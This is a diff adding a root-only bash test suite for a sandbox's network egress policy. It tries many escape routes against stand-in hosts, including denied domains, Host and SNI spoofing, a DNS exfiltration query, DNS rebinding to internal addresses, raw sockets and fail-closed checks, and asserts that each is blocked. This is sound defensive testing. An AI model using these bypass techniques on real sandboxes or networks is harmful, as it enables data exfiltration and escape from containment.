@@ -1,0 +1,270 @@
+#!/bin/bash
+# SPDX-License-Identifier: MIT
+# The escape routes, one check each: a sandbox inside a fresh test world tries every way out,
+# and each check asserts both what the sandboxed program sees and that the origin server (or
+# the world's DNS server) did not see the traffic. Root only; everything runs in namespaces
+# this script creates and removes.
+# shellcheck disable=SC2015
+set -u
+cd "$(dirname "$0")/../.." || exit 1
+ROOT=$PWD
+BUILD=${BUILD:-build}
+SBX_BIN=${SBX_BIN:-$ROOT/$BUILD/sbx}
+NETTOOL=$ROOT/$BUILD/tests/tools/nettool
+
+if [ "$(id -u)" != 0 ]; then
+	echo "SKIP egress: needs root"
+	exit 0
+fi
+for tool in ip nsenter curl dig socat openssl; do
+	command -v "$tool" >/dev/null || { echo "SKIP egress: $tool missing (scripts/deps.sh)"; exit 0; }
+done
+
+W=e$(($$ % 100000))
+T=$(mktemp -d /tmp/sbx-egress.XXXXXX)
+PIN=/sys/fs/bpf/sbxtest-$W
+failed=0
+ENVV=(SBX_STATE_DIR="$T/state" SBX_RUN_DIR="$T/run" SBX_BPF_DIR="$PIN" SBX_CONFIG="$T/none.conf"
+	SBX_INSTANCE="$W" SBX_DNS_UPSTREAM=198.51.100.53:53)
+
+pass() { echo "PASS egress.$1"; }
+fail() {
+	echo "FAIL egress.$1: $2"
+	failed=1
+}
+in_world() { bash scripts/world.sh exec "$W" world "$@"; }
+S() { in_world env "${ENVV[@]}" timeout 60 "$SBX_BIN" "$@" </dev/null; }
+# A command inside sandbox t1 (or $SB), output and status captured in OUT / RC.
+X() {
+	OUT=$(S exec "${SB:-t1}" -- "$@" 2>&1)
+	RC=$?
+}
+daemon_pid() { head -1 "$T/run/sbxd.lock" 2>/dev/null; }
+
+cleanup() {
+	S rm --force t1 >/dev/null 2>&1
+	S rm --force t2 >/dev/null 2>&1
+	S daemon stop >/dev/null 2>&1
+	local pid
+	pid=$(daemon_pid)
+	[ -n "$pid" ] && kill -0 "$pid" 2>/dev/null && kill -9 "$pid"
+	[ -n "${HOSTSVC_PID:-}" ] && kill "$HOSTSVC_PID" 2>/dev/null
+	bash scripts/world.sh down "$W" >/dev/null 2>&1
+	[ -d "$PIN" ] && rm -rf "$PIN"
+	rm -rf "$T"
+}
+trap cleanup EXIT
+trap 'exit 1' INT TERM
+
+if ! out=$(bash scripts/world.sh up "$W" 2>&1); then
+	echo "FAIL egress.world: $out"
+	exit 1
+fi
+eval "$(bash scripts/world.sh env "$W")"
+# a sandbox's root is nobody on the host: give it a copy of the test CA it can read
+chmod 755 "$T"
+cp "$SBX_TEST_CA" "$T/ca.pem" && chmod 644 "$T/ca.pem"
+CA=$T/ca.pem
+ACCESS=$WORLD_DIR/access.log
+DNSLOG=$WORLD_DIR/dns.log
+
+# Lines a log gained since a mark.
+mark() { wc -l <"$1" 2>/dev/null || echo 0; }
+since() { tail -n +"$(($2 + 1))" "$1" 2>/dev/null; }
+
+# ---- setup: Balanced baseline plus the test names ------------------------------------------
+S policy set-default balanced >/dev/null &&
+	S policy allow network "allowed.test,*.example.com,example.com" >/dev/null &&
+	S policy deny network ads.example.com >/dev/null &&
+	S policy allow network "rebind.example,private.example,metadata.example,cgnat.example,loop.example" >/dev/null ||
+	{
+		echo "FAIL egress.setup: cannot set the policy"
+		exit 1
+	}
+if ! out=$(S run t1 -- true 2>&1); then
+	echo "FAIL egress.setup: sbx run t1: $out"
+	exit 1
+fi
+pass setup
+
+# ---- allowed traffic gets through, both ways ------------------------------------------------
+m=$(mark "$ACCESS")
+X curl -s -m 5 --noproxy '*' http://allowed.test/
+[ $RC = 0 ] && [[ $OUT == *"host=allowed.test"* ]] && since "$ACCESS" "$m" | grep -q "allowed.test GET /" &&
+	pass transparent_http_allowed || fail transparent_http_allowed "rc=$RC out=$OUT"
+
+X curl -s -m 5 --noproxy '*' --cacert "$CA" https://allowed.test/
+[ $RC = 0 ] && [[ $OUT == *"host=allowed.test"*"scheme=https"* ]] && pass transparent_https_allowed ||
+	fail transparent_https_allowed "rc=$RC out=$OUT"
+
+X sh -c 'curl -s -m 5 http://allowed.test/; echo; echo "proxy=$HTTP_PROXY"'
+[ $RC = 0 ] && [[ $OUT == *"host=allowed.test"* ]] && [[ $OUT == *"proxy=http://gateway.docker.internal:3128"* ]] &&
+	pass forward_http_allowed || fail forward_http_allowed "rc=$RC out=$OUT"
+
+X curl -s -m 5 --cacert "$CA" https://allowed.test/
+[ $RC = 0 ] && [[ $OUT == *"scheme=https"* ]] && pass forward_connect_allowed ||
+	fail forward_connect_allowed "rc=$RC out=$OUT"
+
+# ---- denied names -------------------------------------------------------------------------------
+m=$(mark "$ACCESS")
+X curl -s -m 5 http://evil.example/
+[[ $OUT == *"Blocked by network policy: domain evil.example"* ]] &&
+	[[ $OUT == *"detail: no matching allow rule - blocked by default deny policy"* ]] &&
+	! since "$ACCESS" "$m" | grep -q evil.example && pass forward_denied_403 ||
+	fail forward_denied_403 "rc=$RC out=$OUT"
+
+X curl -s -m 5 -o /dev/null -w '%{http_connect}' --cacert "$CA" https://evil.example/
+[ $RC != 0 ] && [[ $OUT == *403* ]] && ! since "$ACCESS" "$m" | grep -q evil.example &&
+	pass forward_connect_denied || fail forward_connect_denied "rc=$RC out=$OUT"
+
+X curl -s -m 5 --noproxy '*' --resolve evil.example:80:203.0.113.66 http://evil.example/
+[[ $OUT == *"Blocked by network policy: domain evil.example"* ]] && ! since "$ACCESS" "$m" | grep -q evil.example &&
+	pass transparent_denied_403 || fail transparent_denied_403 "rc=$RC out=$OUT"
+
+X curl -s -m 5 --noproxy '*' --cacert "$CA" --resolve evil.example:443:203.0.113.66 https://evil.example/
+[ $RC != 0 ] && ! since "$ACCESS" "$m" | grep -q evil.example && pass transparent_tls_denied_reset ||
+	fail transparent_tls_denied_reset "rc=$RC out=$OUT"
+
+# ---- addresses instead of names ---------------------------------------------------------------
+m=$(mark "$ACCESS")
+X curl -s -m 5 --noproxy '*' http://203.0.113.10/
+[[ $OUT == *"Blocked by network policy"* ]] && ! since "$ACCESS" "$m" | grep -q "^203.0.113.10 " &&
+	pass direct_ip_denied || fail direct_ip_denied "rc=$RC out=$OUT"
+
+# Host says an allowed name, the address is a denied host: the proxy dials the name's own address.
+m=$(mark "$ACCESS")
+X curl -s -m 5 --noproxy '*' -H 'Host: allowed.test' http://203.0.113.66/
+new=$(since "$ACCESS" "$m")
+[[ $new == *"203.0.113.10 allowed.test"* ]] && [[ $new != *"203.0.113.66"* ]] && pass spoofed_host_goes_to_named_host ||
+	fail spoofed_host_goes_to_named_host "rc=$RC out=$OUT log=$new"
+
+X curl -s -m 5 -k -o /dev/null -w '%{http_connect}' https://203.0.113.10/
+[ $RC != 0 ] && [[ $OUT == *403* ]] && pass connect_ip_literal_denied || fail connect_ip_literal_denied "rc=$RC out=$OUT"
+
+X sh -c 'echo | openssl s_client -proxy gateway.docker.internal:3128 -connect allowed.test:443 -servername evil.example -CAfile "$0" 2>&1' "$CA"
+[[ $OUT == *"no peer certificate available"* ]] && S policy log --json | grep -q '"reason":.*"sni-mismatch"' &&
+	pass sni_connect_mismatch || fail sni_connect_mismatch "out=$OUT"
+
+# ---- other protocols ------------------------------------------------------------------------------
+m=$(mark "$DNSLOG")
+X dig +time=2 +tries=1 @198.51.100.53 secret-data.exfil.example
+[[ $OUT == *"status: REFUSED"* ]] && ! since "$DNSLOG" "$m" | grep -q exfil && pass udp_dns_to_outside_server_answered_by_sbxd ||
+	fail udp_dns_to_outside_server_answered_by_sbxd "rc=$RC out=$OUT"
+
+X dig +time=2 +tries=1 secret-data.exfil.example
+[[ $OUT == *"status: REFUSED"* ]] && ! since "$DNSLOG" "$m" | grep -q exfil && pass dns_exfiltration_refused ||
+	fail dns_exfiltration_refused "rc=$RC out=$OUT"
+
+X dig +time=2 +tries=1 +short pypi.org
+[ "$OUT" = 198.51.100.10 ] && pass dns_allowed_name_resolves || fail dns_allowed_name_resolves "out=$OUT"
+
+m=$(mark "$WORLD_DIR/udp.log")
+X "$NETTOOL" udp 198.51.100.10 9999
+[ $RC != 0 ] && sleep 0.3 && [ -z "$(since "$WORLD_DIR/udp.log" "$m")" ] && pass udp_other_ports_refused ||
+	fail udp_other_ports_refused "rc=$RC out=$OUT"
+
+X "$NETTOOL" icmp 198.51.100.10
+[ $RC != 0 ] && pass icmp_blocked || fail icmp_blocked "out=$OUT"
+
+X "$NETTOOL" raw
+[ $RC != 0 ] && pass raw_socket_refused || fail raw_socket_refused "out=$OUT"
+
+m=$(mark "$ACCESS")
+X curl -s -m 5 -g --noproxy '*' 'http://[2001:db8:100::10]/'
+[ $RC != 0 ] && ! since "$ACCESS" "$m" | grep -q "2001:db8" && pass ipv6_refused || fail ipv6_refused "rc=$RC out=$OUT"
+
+m=$(mark "$WORLD_DIR/tcp.log")
+X "$NETTOOL" tcp 198.51.100.10 7
+sleep 0.3
+[ -z "$(since "$WORLD_DIR/tcp.log" "$m")" ] && pass raw_tcp_denied || fail raw_tcp_denied "out=$OUT"
+
+# ---- internal addresses behind allowed names ---------------------------------------------------
+m=$(mark "$ACCESS")
+for name in rebind.example private.example metadata.example cgnat.example loop.example; do
+	X curl -s -m 5 "http://$name/"
+	[[ $OUT == *"Blocked by network policy"*"internal address"* ]] && pass "private_ip_refused_$name" ||
+		fail "private_ip_refused_$name" "rc=$RC out=$OUT"
+done
+[ -z "$(since "$ACCESS" "$m")" ] && pass private_ip_origin_untouched || fail private_ip_origin_untouched "$(since "$ACCESS" "$m")"
+
+S policy allow network 10.77.0.5:80 >/dev/null
+X curl -s -m 5 http://rebind.example/
+[[ $OUT == *"host=rebind.example"* ]] && pass address_rule_unlocks_private_ip || fail address_rule_unlocks_private_ip "out=$OUT"
+
+# ---- precedence and live changes ---------------------------------------------------------------
+X curl -s -m 5 http://ads.example.com/
+[[ $OUT == *"Blocked by network policy: domain ads.example.com"* ]] && pass deny_beats_wildcard_allow ||
+	fail deny_beats_wildcard_allow "out=$OUT"
+X curl -s -m 5 http://www.example.com/
+[[ $OUT == *"host=www.example.com"* ]] && pass wildcard_allow_works || fail wildcard_allow_works "out=$OUT"
+
+S policy deny network allowed.test >/dev/null
+X curl -s -m 5 http://allowed.test/
+[[ $OUT == *"Blocked by network policy: domain allowed.test"* ]] && pass policy_change_applies_at_once ||
+	fail policy_change_applies_at_once "out=$OUT"
+S policy rm network --resource allowed.test >/dev/null
+S policy allow network allowed.test >/dev/null
+
+# ---- other sandboxes and the host's own services --------------------------------------------
+if out=$(S run t2 -- true 2>&1); then
+	T2IP=$(S ls --json | python3 -c 'import json,sys; print([s["ip"] for s in json.load(sys.stdin)["sandboxes"] if s["name"]=="t2"][0])')
+	X curl -s -m 5 --noproxy '*' "http://$T2IP:8080/"
+	[ $RC != 0 ] || [[ $OUT == *"Blocked"* ]] && pass other_sandbox_unreachable || fail other_sandbox_unreachable "out=$OUT"
+else
+	fail other_sandbox_unreachable "cannot create t2: $out"
+fi
+
+printf 'HTTP/1.0 200 OK\r\nContent-Length: 13\r\n\r\nhost-service\n' >"$T/host-reply"
+in_world socat TCP-LISTEN:18080,bind=127.0.0.1,fork,reuseaddr SYSTEM:"cat $T/host-reply" >/dev/null 2>&1 &
+HOSTSVC_PID=$!
+sleep 0.3
+X curl -s -m 5 http://host.docker.internal:18080/
+[[ $OUT != *host-service* ]] && pass host_service_closed_without_rule || fail host_service_closed_without_rule "out=$OUT"
+S policy allow network localhost:18080 >/dev/null
+X curl -s -m 5 http://host.docker.internal:18080/
+[[ $OUT == *host-service* ]] && pass host_service_with_localhost_rule || fail host_service_with_localhost_rule "out=$OUT"
+X curl -s -m 5 --noproxy '*' http://host.docker.internal:18080/
+[[ $OUT == *host-service* ]] && pass host_service_transparent || fail host_service_transparent "out=$OUT"
+
+# ---- the log --------------------------------------------------------------------------------------
+log=$(S policy log --json)
+echo "$log" | python3 -c '
+import json, sys
+d = json.load(sys.stdin)
+b = {(e["host"], e["proxy_type"], e["reason"]) for e in d["blocked_hosts"]}
+a = {(e["host"], e["proxy_type"]) for e in d["allowed_hosts"]}
+need_b = [("evil.example", "forward", "default-deny"), ("ads.example.com", "forward", "domain-blocked"),
+          ("evil.example", "transparent", "default-deny"), ("rebind.example", "forward", "private-ip"),
+          ("secret-data.exfil.example", "network", "dns-refused")]
+need_a = [("allowed.test", "transparent"), ("allowed.test", "forward"), ("allowed.test", "forward-bypass")]
+miss = [x for x in need_b if x not in b] + [x for x in need_a if x not in a]
+sys.exit(1 if miss else 0) if not miss else (print(miss), sys.exit(1))
+' && pass log_shows_verdicts || fail log_shows_verdicts "$(echo "$log" | head -c 3000)"
+S policy log | grep -q "^Blocked requests:" && pass log_table || fail log_table "no table"
+
+# ---- fail closed: sbxd killed while the sandbox keeps dialling -----------------------------
+pid=$(daemon_pid)
+mt=$(mark "$WORLD_DIR/tcp.log")
+mu=$(mark "$WORLD_DIR/udp.log")
+# the dialler runs inside the sandbox through the kill; every attempt after it must fail
+in_world env "${ENVV[@]}" "$SBX_BIN" exec t1 -- sh -c \
+	"for i in \$(seq 30); do echo try \$i; $NETTOOL tcp 198.51.100.10 7; $NETTOOL tcp 203.0.113.10 80; $NETTOOL udp 198.51.100.10 9999; sleep 0.1; done" \
+	>"$T/dial.out" 2>&1 </dev/null &
+dialler=$!
+sleep 1
+[ -n "$pid" ] && kill -9 "$pid"
+killed_at=$(grep -c '^try' "$T/dial.out")
+wait "$dialler"
+sleep 0.3
+after=$(awk -v n="$killed_at" '/^try/ { t++ } t > n + 1' "$T/dial.out")
+if [ -z "$(since "$WORLD_DIR/tcp.log" "$mt")" ] && [ -z "$(since "$WORLD_DIR/udp.log" "$mu")" ] &&
+	[ -n "$after" ] && ! grep -q '^ok' <<<"$after"; then
+	pass fail_closed_while_sbxd_down
+else
+	fail fail_closed_while_sbxd_down "after kill: $(head -c 600 <<<"$after") tcp=$(since "$WORLD_DIR/tcp.log" "$mt")"
+fi
+S policy log >/dev/null && pass log_readable_while_sbxd_down || fail log_readable_while_sbxd_down "exit $?"
+[ ! -S "$T/run/sbxd.sock" ] || ! kill -0 "$pid" 2>/dev/null && pass daemon_was_down ||
+	fail daemon_was_down "sbxd still running"
+
+exit $failed
